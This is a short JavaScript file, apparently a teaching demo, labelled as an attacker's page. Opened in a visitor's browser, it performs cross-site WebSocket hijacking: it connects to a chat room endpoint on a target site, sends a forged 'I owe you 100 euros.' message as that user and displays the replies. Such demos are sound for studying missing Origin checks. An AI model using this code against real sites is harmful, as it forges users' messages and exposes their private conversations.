// The page of an attacker. Whoever looks at it lends it their browser.
const site = new URLSearchParams(location.search).get("site") ?? "127.0.0.1:8000";
const socket = new WebSocket(`ws://${site}/ws/rooms/garden/`);

socket.addEventListener("open", () => {
  socket.send(JSON.stringify({ type: "message", text: "I owe you 100 euros." }));
});
socket.addEventListener("message", ({ data }) => show(data));
socket.addEventListener("close", ({ code }) => show(`Closed with code ${code}.`));

function show(words) {
  const item = document.createElement("li");
  item.textContent = words;
  document.querySelector("#heard").append(item);
}
